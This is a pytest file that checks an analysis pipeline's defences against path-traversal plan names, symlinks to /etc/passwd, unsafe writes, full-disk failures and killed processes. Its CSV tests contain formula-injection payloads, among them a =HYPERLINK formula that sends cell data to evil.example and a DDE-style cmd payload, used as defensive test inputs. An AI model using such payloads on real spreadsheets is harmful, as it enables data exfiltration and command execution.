"""Inputs that cannot hurt: plan names, links, the raw folder, writes, permissions, CSV cells,
unwritable folders, a killed runner (issue 13). Fixture notebooks (tests/fixtures/pipeline_notebooks)
stand in for the stage notebooks wherever a real notebook run is not needed."""

from __future__ import annotations

import errno
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from analysis.core import io as core_io
from analysis.core import paths
from analysis.core.errors import AnalysisError
from analysis.core.io import folder_fingerprint, write_atomic, write_csv, write_tables
from analysis.pipeline import cli
from analysis.pipeline.runner import build_tasks, run_batch, summary_table

sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures" / "pipeline_notebooks"))
from runner_fixture import FIXTURES, make_plan, options  # noqa: E402

PYTHON = sys.executable
PLAN_YAML = ("name_zh: demo\nbase_year: 2020\nmidterm_year: 2023\ntarget_year: 2025\n"
             "chapters: [{number: 1}, {number: 2}, {number: 3}]\n")


def real_plan(data_root: Path, name: str = "demo") -> Path:
    """A fixture plan whose plan.yaml the runner's own reader accepts (no monkeypatching)."""
    raw = make_plan(data_root, name)
    (raw / "plan.yaml").write_text(PLAN_YAML, encoding="utf-8")
    return raw


def run_cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([PYTHON, "-m", "analysis", *args], capture_output=True, text=True,
                          timeout=300, cwd=cwd)


def roots(tmp: Path) -> list[str]:
    return ["--data-root", str(tmp / "data"), "--reports-root", str(tmp / "reports")]


def statuses(results) -> dict[str, str]:
    return {r.task_id: r.status for r in results}


# --------------------------------------------------------------------------- plan names


@pytest.mark.parametrize("plan", ["../raw/demo", "../../tmp/evil", "/abs/path", "demo/", "..",
                                  ".", ".hidden", "a\\b", "", "C:demo"])
@pytest.mark.parametrize("command", ["run", "template"])
def test_plan_takes_a_name_only_one_line_exit_2_nothing_written(tmp_path, plan, command):
    raw = real_plan(tmp_path / "data")
    (tmp_path / "data" / "raw" / "other").mkdir()  # "../raw/demo" from processed/ would hit it
    before = folder_fingerprint(tmp_path / "data" / "raw")
    extra = ["--notebooks", str(FIXTURES)] if command == "run" else ["--year", "2026"]
    done = run_cli(*roots(tmp_path), command, "--plan", plan, *extra, cwd=tmp_path)
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert "a plan is the name of a folder directly under data/raw/, not a path" in done.stderr
    assert folder_fingerprint(tmp_path / "data" / "raw") == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]
    assert sorted(p.name for p in (tmp_path / "data").iterdir()) == ["raw"]
    assert not (raw / "returns").exists()


def test_the_api_refuses_a_path_for_a_plan_too(tmp_path):
    real_plan(tmp_path / "data")
    for plan in ("../raw/demo", str(tmp_path / "data" / "raw" / "demo")):
        with pytest.raises(AnalysisError, match="not a path"):
            build_tasks(options(tmp_path, plans=(plan,)))
        with pytest.raises(AnalysisError, match="not a path"):
            paths.processed_plan_dir(plan, tmp_path / "data")
        with pytest.raises(AnalysisError, match="not a path"):
            paths.report_dir(plan, 2023, tmp_path / "reports")
    assert paths.check_plan_name("county_01") == "county_01"
    assert paths.check_plan_name("开平市") == "开平市"


# --------------------------------------------------------------------------- nothing under raw/


def test_no_writer_writes_under_a_raw_plan_folder(tmp_path):
    raw = real_plan(tmp_path / "data")
    before = folder_fingerprint(raw)
    with pytest.raises(AnalysisError, match="refusing to write into the raw inputs"):
        write_atomic(raw / "evil.txt", "x")
    with pytest.raises(AnalysisError, match="refusing to write into the raw inputs"):
        write_atomic(raw / "returns" / "sub" / "evil.txt", "x")
    with pytest.raises(AnalysisError, match="refusing to write into the raw inputs"):
        write_tables(raw / "tables", {"t": pd.DataFrame({"a": [1]})})
    with pytest.raises(AnalysisError, match="refusing to write into the raw inputs"):
        write_atomic(tmp_path / "data" / "raw" / "loose.txt", "x")  # raw/ itself, beside plans
    assert folder_fingerprint(raw) == before
    assert sorted(p.name for p in (tmp_path / "data" / "raw").iterdir()) == ["demo"]
    write_atomic(tmp_path / "data" / "processed" / "demo" / "ok.txt", "x")  # elsewhere: fine


def test_a_reports_root_inside_the_raw_folder_is_refused_before_anything_runs(tmp_path):
    raw = real_plan(tmp_path / "data")
    before = folder_fingerprint(raw)
    with pytest.raises(AnalysisError, match="refusing to write into the raw inputs"):
        build_tasks(options(tmp_path, reports_root=raw / "reports"))
    link = tmp_path / "reports-link"
    link.symlink_to(raw, target_is_directory=True)  # or a link into it
    with pytest.raises(AnalysisError, match="refusing to write into the raw inputs"):
        build_tasks(options(tmp_path, reports_root=link))
    assert folder_fingerprint(raw) == before


# --------------------------------------------------------------------------- links


def _link_cases(raw: Path, outside: Path) -> dict[str, tuple[Path, Path]]:
    secret = outside / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT,1,2\n", encoding="utf-8")
    workbook = outside / "2021.xlsx"
    workbook.write_bytes(b"PK\x03\x04 not really a workbook")
    year = outside / "2019"
    year.mkdir()
    (year / "基本情况.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    return {"workbook": (raw / "returns" / "2021.xlsx", workbook),
            "year folder": (raw / "returns" / "2019", year),
            "system file": (raw / "history.csv", Path("/etc/passwd")),
            "secret": (raw / "milestones.csv", secret),
            "hidden": (raw / ".notes" / "x.csv", secret)}


@pytest.mark.parametrize("case", ["workbook", "year folder", "system file", "secret", "hidden"])
def test_a_link_in_a_plan_folder_is_refused_naming_the_link_not_its_content(tmp_path, case):
    raw = real_plan(tmp_path / "data")
    (raw / "returns").mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    link, target = _link_cases(raw, outside)[case]
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target, target_is_directory=target.is_dir())
    before = folder_fingerprint(outside)

    with pytest.raises(AnalysisError) as refused:
        paths.plan_files(raw)
    assert str(link) in str(refused.value) and "symbolic link" in str(refused.value)
    with pytest.raises(AnalysisError, match="symbolic link"):
        paths.raw_plan_dir("demo", tmp_path / "data")  # every stage reads the plan through it
    done = run_cli(*roots(tmp_path), "run", "--plan", "demo", "--notebooks", str(FIXTURES))
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert str(link) in done.stderr
    for content in ("TOP-SECRET", "root:", "PK"):
        assert content not in done.stderr + done.stdout
    assert not (tmp_path / "reports").exists() and not (tmp_path / "data" / "processed").exists()
    assert folder_fingerprint(outside) == before


def test_a_linked_plan_folder_and_a_fifo_are_refused(tmp_path):
    real = real_plan(tmp_path / "elsewhere")
    (tmp_path / "data" / "raw").mkdir(parents=True)
    (tmp_path / "data" / "raw" / "linked").symlink_to(real, target_is_directory=True)
    with pytest.raises(AnalysisError, match="the plan folder is a symbolic link"):
        paths.raw_plan_dir("linked", tmp_path / "data")
    raw = real_plan(tmp_path / "data", "fifo")
    os.mkfifo(raw / "targets2.csv")  # would hang a reader
    with pytest.raises(AnalysisError, match="not a regular file"):
        paths.raw_plan_dir("fifo", tmp_path / "data")


def test_the_clean_task_hashes_the_files_the_plan_reader_sees(tmp_path):
    raw = real_plan(tmp_path / "data")
    (raw / "returns").mkdir()
    (raw / "returns" / "2021.xlsx").write_bytes(b"x")
    (raw / "returns" / "~$2021.xlsx").write_bytes(b"lock")  # Office lock file: never read
    (raw / ".DS_Store").write_bytes(b"x")
    clean = build_tasks(options(tmp_path))[0]
    assert clean.spec.stage == "clean"
    assert clean.inputs() == paths.plan_files(raw) == sorted(
        [raw / "plan.yaml", raw / "targets.csv", raw / "returns" / "2021.xlsx"])
    (raw / "returns" / "2022.xlsx").symlink_to(raw / "returns" / "2021.xlsx")
    with pytest.raises(AnalysisError, match="symbolic link"):
        clean.inputs()


# --------------------------------------------------------------------------- eval year


@pytest.mark.parametrize("year", ["2031", "2020", "1995"])
def test_an_eval_year_outside_the_plan_period_is_refused_before_any_work(tmp_path, year):
    raw = real_plan(tmp_path / "data")
    before = folder_fingerprint(raw)
    done = run_cli(*roots(tmp_path), "run", "--plan", "demo", "--eval-year", year,
                   "--notebooks", str(FIXTURES))
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert "eval_year must lie inside the plan period (2021–2025)" in done.stderr
    assert str(raw / "plan.yaml") in done.stderr
    assert folder_fingerprint(raw) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]
    assert sorted(p.name for p in (tmp_path / "data").iterdir()) == ["raw"]


# --------------------------------------------------------------------------- atomic writes


def disk_full_after(monkeypatch, good_writes: int, *, partial: bool = True) -> list[int]:
    """Make every write of core.io's writer after the first ``good_writes`` fail with ENOSPC,
    after writing half of its bytes (what a full disk does)."""
    calls = [0]
    real = core_io.os.fdopen

    class HalfWriter:
        def __init__(self, handle):
            self.handle = handle

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.handle.close()

        def write(self, data):
            if partial:
                self.handle.write(data[: len(data) // 2])
                self.handle.flush()
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def fdopen(fd, *args, **kwargs):
        handle = real(fd, *args, **kwargs)
        calls[0] += 1
        return handle if calls[0] <= good_writes else HalfWriter(handle)

    monkeypatch.setattr(core_io.os, "fdopen", fdopen)
    return calls


def test_a_full_disk_leaves_the_old_file_whole_and_names_the_path(tmp_path, monkeypatch):
    target = tmp_path / "reports" / "index.html"
    write_atomic(target, "<p>the last good page</p>")
    disk_full_after(monkeypatch, 0)
    with pytest.raises(OSError) as full:
        write_atomic(target, "<p>a new page</p>" * 1000)
    assert full.value.errno == errno.ENOSPC
    assert str(target) in str(full.value) and "No space left on device" in str(full.value)
    assert target.read_text() == "<p>the last good page</p>"
    assert sorted(p.name for p in target.parent.iterdir()) == ["index.html"]  # no temp left

    def half_then_full(path: Path) -> None:  # a writer function (pandas, a renderer)
        path.write_text("half")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    with pytest.raises(OSError, match=str(target)):
        write_atomic(target, half_then_full)
    assert target.read_text() == "<p>the last good page</p>"
    assert sorted(p.name for p in target.parent.iterdir()) == ["index.html"]


def test_a_full_disk_keeps_the_published_evaluation_csv_whole(tmp_path, monkeypatch):
    from analysis.evaluate.stage import write_evaluation_csv

    path = tmp_path / "evaluation.csv"
    write_evaluation_csv(pd.DataFrame({"key": ["a"], "grade": ["on_track"]}), path)
    before = path.read_bytes()

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    with pytest.raises(OSError, match=f"No space left on device: '{path}'"):
        write_evaluation_csv(pd.DataFrame({"key": ["b"], "grade": ["lagging"]}), path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["evaluation.csv"]


def test_a_full_disk_while_a_notebook_runs_keeps_a_whole_failed_notebook(tmp_path, monkeypatch):
    """papermill saves the executed notebook after every cell; the disk fills up after two
    saves: the kept failed notebook is the last complete save and the error names the file."""
    from analysis.pipeline.tasks import TaskSpec, run_task

    real_plan(tmp_path / "data")
    task = next(t for t in build_tasks(options(tmp_path, chapters=(1,)))
                if t.spec.stage == "clean")
    disk_full_after(monkeypatch, 2)
    result = run_task(TaskSpec(**{**task.spec.__dict__, "timeout": 60}))
    assert result.status == "failed"
    executed = Path(task.spec.executed_path)
    assert "No space left on device" in result.message and str(executed) in result.message
    kept = Path(result.executed_path)
    assert kept == tmp_path / "reports/demo/2023/failed/01_clean_returns.ipynb"
    document = json.loads(kept.read_text(encoding="utf-8"))  # whole JSON, not 0 bytes
    assert document["cells"] and kept.stat().st_size > 100
    assert not executed.exists()
    assert not [p for p in executed.parent.iterdir() if p.name.startswith(".")]


# --------------------------------------------------------------------------- permissions


def test_outputs_are_readable_by_everyone_as_the_umask_allows(tmp_path):
    old = os.umask(0o022)
    try:
        page = write_atomic(tmp_path / "a.html", "x")
        assert stat.S_IMODE(page.stat().st_mode) == 0o644
        csv = write_csv(pd.DataFrame({"a": [1]}), tmp_path / "evaluation.csv")
        assert stat.S_IMODE(csv.stat().st_mode) == 0o644
        tables = write_tables(tmp_path / "t", {"x": pd.DataFrame({"a": [1]})})
        assert {stat.S_IMODE(p.stat().st_mode) for p in tables.iterdir()} == {0o644}
        os.umask(0o027)
        assert stat.S_IMODE(write_atomic(tmp_path / "b.html", "x").stat().st_mode) == 0o640
    finally:
        os.umask(old)


def test_a_batch_writes_its_reports_and_records_0644(tmp_path):
    old = os.umask(0o022)
    try:
        real_plan(tmp_path / "data")
        results = run_batch(options(tmp_path, chapters=(1,)), stream=io.StringIO())
    finally:
        os.umask(old)
    assert set(statuses(results).values()) == {"ok"}
    report = tmp_path / "reports" / "demo" / "2023"
    written = [report / "chapter_1.html", report / "index.html",
               *report.glob("notebooks/*.ipynb"), *report.glob(".cache/*.json"),
               tmp_path / "data" / "processed" / "demo" / ".cache" / "clean.json"]
    assert len(written) == 12
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in written} == \
        {p.name: 0o644 for p in written}


# --------------------------------------------------------------------------- CSV cells


def test_formula_like_text_is_neutralised_in_published_csvs_numbers_are_not(tmp_path):
    frame = pd.DataFrame({
        "key": ["t1", "t2", "t3", "t4", "t5", "t6", "t7", "t8"],
        "name_zh": ['=HYPERLINK("http://evil.example","点击")', "+cmd|' /C calc'!A0",
                    "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR", "普通文字", "-3.5"],
        "actual": [-3.5, 1.0, -0.25, 2.0, 3.0, 4.0, 5.0, None],
        "count": [-3, 1, 2, 3, 4, 5, 6, 7],
    })
    path = write_csv(frame, tmp_path / "evaluation.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: opens in Excel
    assert b"t6,\"'\rCR\",4.0,5\r\n" in raw  # a lone CR is quoted: it cannot start a row in Excel
    import csv

    back = pd.DataFrame(list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))))
    assert back["name_zh"].tolist() == [
        "'=HYPERLINK(\"http://evil.example\",\"点击\")", "'+cmd|' /C calc'!A0", "'-2+3",
        "'@SUM(A1:A9)", "'\tTab", "'\rCR", "普通文字", "-3.5"]
    assert back["actual"].tolist()[:3] == ["-3.5", "1.0", "-0.25"]  # genuine numbers untouched
    assert back["count"].tolist()[0] == "-3"
    assert frame["name_zh"][0].startswith("=")  # the caller's frame is not changed


def test_a_formula_in_a_target_name_does_not_reach_evaluation_csv(tmp_path):
    """The real clean and evaluation stages, in process: a target named =HYPERLINK(…)."""
    import csv

    from analysis.clean.stage import run_clean_stage
    from analysis.evaluate.stage import run_evaluation_stage

    raw = tmp_path / "data" / "raw" / "county"
    shutil.copytree(paths.PROJECT_ROOT / "data" / "raw" / "kaiping", raw)
    rows = list(csv.DictReader((raw / "targets.csv").open(encoding="utf-8-sig")))
    evil = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    rows[0]["name_zh"] = evil
    with (raw / "targets.csv").open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    run_clean_stage("county", tmp_path / "data")
    published = tmp_path / "reports" / "county" / "2023"
    run_evaluation_stage("county", 2023, band=0.05, data_root=tmp_path / "data",
                         publish_to=published)
    text = (published / "evaluation.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + evil in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        float(text.rstrip("%"))
    except ValueError:
        return False
    return True


# --------------------------------------------------------------------------- deleted tables


def test_a_processed_table_deleted_by_hand_is_rebuilt_without_force(tmp_path):
    real_plan(tmp_path / "data")
    assert set(statuses(run_batch(options(tmp_path), stream=io.StringIO())).values()) == {"ok"}
    table = tmp_path / "data" / "processed" / "demo" / "targets.parquet"
    table.unlink()
    again = statuses(run_batch(options(tmp_path), stream=io.StringIO()))
    assert again["demo/clean"] == "ok" and table.is_file()
    # the tables came out the same: nothing downstream runs (the document task: see below)
    assert {s for t, s in again.items() if t not in ("demo/clean", "demo/2023/document")} == {
        "skipped"}
    models = tmp_path / "data" / "processed" / "demo" / "models" / "2023" / "fit.json"
    models.unlink()  # a model output too
    again = statuses(run_batch(options(tmp_path), stream=io.StringIO()))
    assert again["demo/models/2023"] == "ok" and models.is_file()


# --------------------------------------------------------------------------- unwritable reports


def _unwritable_summary(tmp_path: Path, capsys) -> tuple[int, str]:
    argv = [*roots(tmp_path), "run", "--plan", "demo", "--chapters", "1", "--jobs", "2",
            "--notebooks", str(FIXTURES)]
    code = cli.main(argv)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def test_a_reports_folder_that_cannot_be_written_still_gets_a_summary(tmp_path, capsys):
    """The reports folder of the plan is blocked (a file stands where the folder should be)."""
    raw = real_plan(tmp_path / "data")
    before = folder_fingerprint(raw)
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "demo").write_text("not a folder")
    code, out = _unwritable_summary(tmp_path, capsys)
    assert code == 1
    assert "Traceback" not in out
    table = out[out.index("stage "):].splitlines()
    clean = next(line for line in table if line.split()[:3] == ["clean", "demo", "failed"])
    assert f"Not a directory: '{tmp_path / 'reports' / 'demo' / '2023' / 'notebooks'}'" in clean
    assert table[-1] == "1 failed, 5 blocked"
    assert folder_fingerprint(raw) == before


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_reports_folder_still_gets_a_summary(tmp_path, capsys):
    real_plan(tmp_path / "data")
    report = tmp_path / "reports"
    report.mkdir()
    report.chmod(0o555)
    try:
        code, out = _unwritable_summary(tmp_path, capsys)
    finally:
        report.chmod(0o755)
    assert code == 1 and "Traceback" not in out
    assert "Permission denied" in out and str(report / "demo") in out
    assert "1 failed, 5 blocked" in out


def test_summary_table_lists_what_was_kept_stale():
    from analysis.pipeline.tasks import TaskResult

    results = [TaskResult("p/2023/chapter_1", "chapter", "p", 1, "blocked", 0.0, "needs p/clean",
                          stale=["/r/p/2023/chapter_1.html", "/r/p/2023/notebooks/x.ipynb"],
                          report_dir="/r/p/2023")]
    assert summary_table(results).splitlines()[-1] == (
        "stale: chapter_1.html, 1 executed notebook in /r/p/2023 kept from the last successful "
        "run and marked stale (listed in manifest.json)")


# --------------------------------------------------------------------------- kill -9


def _processes() -> dict[int, tuple[int, str]]:
    """pid → (parent pid, state) of every process (Linux /proc)."""
    found = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                fields = Path(f"/proc/{entry}/stat").read_text().rpartition(")")[2].split()
            except OSError:
                continue
            found[int(entry)] = (int(fields[1]), fields[0])
    return found


def _descendants(pid: int) -> set[int]:
    table = _processes()
    found, pending = set(), [pid]
    while pending:
        parent = pending.pop()
        for child, (ppid, _) in table.items():
            if ppid == parent and child not in found:
                found.add(child)
                pending.append(child)
    return found


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs Linux /proc")
def test_workers_and_kernels_die_with_a_killed_runner(tmp_path):
    slow = tmp_path / "nb"
    slow.mkdir()
    started = tmp_path / "started"
    for path in FIXTURES.glob("*.ipynb"):
        text = path.read_text(encoding="utf-8")
        if path.name.startswith("01"):
            document = json.loads(text)
            document["cells"].append({
                "cell_type": "code", "metadata": {}, "id": "slow", "execution_count": None,
                "outputs": [],
                "source": f"import os, time\nopen({str(started)!r}, 'w').write(str(os.getpid()))"
                          "\ntime.sleep(300)"})
            text = json.dumps(document)
        (slow / path.name).write_text(text, encoding="utf-8")
    real_plan(tmp_path / "data")
    runner = subprocess.Popen(
        [PYTHON, "-m", "analysis", *roots(tmp_path), "run", "--plan", "demo", "--jobs", "2",
         "--notebooks", str(slow)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while not started.exists() and time.monotonic() < deadline:
            assert runner.poll() is None, "the batch ended before its notebook started"
            time.sleep(0.2)
        assert started.exists(), "the slow notebook never started"
        family = _descendants(runner.pid)
        commands = [Path(f"/proc/{pid}/cmdline").read_bytes() for pid in family]
        assert any(b"forkserver" in c for c in commands) and any(b"ipykernel" in c for c in commands)
        deadline = time.monotonic() + 10
        while not started.read_text() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert int(started.read_text()) in family  # the notebook's own kernel (a warm fork)
    finally:
        runner.send_signal(signal.SIGKILL)
        runner.wait(timeout=30)

    def alive() -> list[int]:
        table = _processes()
        return [pid for pid in family if pid in table and table[pid][1] != "Z"]

    deadline = time.monotonic() + 10
    while alive() and time.monotonic() < deadline:
        time.sleep(0.2)
    left = alive()
    for pid in left:  # do not leave them behind even when the test fails
        os.kill(pid, signal.SIGKILL)
    assert not left, "processes outlived the killed runner"
    notebooks = tmp_path / "reports" / "demo" / "2023" / "notebooks"
    assert not [p for p in notebooks.iterdir() if p.name.startswith(".")]  # temporaries removed


def test_the_document_task_is_skipped_when_a_rebuilt_table_comes_out_the_same(tmp_path):
    real_plan(tmp_path / "data")
    run_batch(options(tmp_path), stream=io.StringIO())
    (tmp_path / "data" / "processed" / "demo" / "targets.parquet").unlink()
    again = statuses(run_batch(options(tmp_path), stream=io.StringIO()))
    assert again["demo/2023/document"] == "skipped"


def test_summary_table_names_the_year_and_the_language_of_each_task():
    from analysis.pipeline.tasks import TaskResult

    results = [TaskResult("p/clean", "clean", "p", None, "ok", 1.25),
               TaskResult("p/2025/chapter_2.en", "chapter", "p", 2, "skipped", year=2025,
                          lang="en"),
               TaskResult("p/2023/summary", "summary", "p", None, "ok", 0.5, year=2023,
                          lang="zh")]
    assert summary_table(results).splitlines() == [
        "stage    plan  year  chapter  lang  status   seconds",
        "-------  ----  ----  -------  ----  -------  -------",
        "clean    p                          ok           1.2",
        "chapter  p     2025  2        en    skipped        -",
        "summary  p     2023           zh    ok           0.5",
        "2 ok, 1 skipped",
    ]
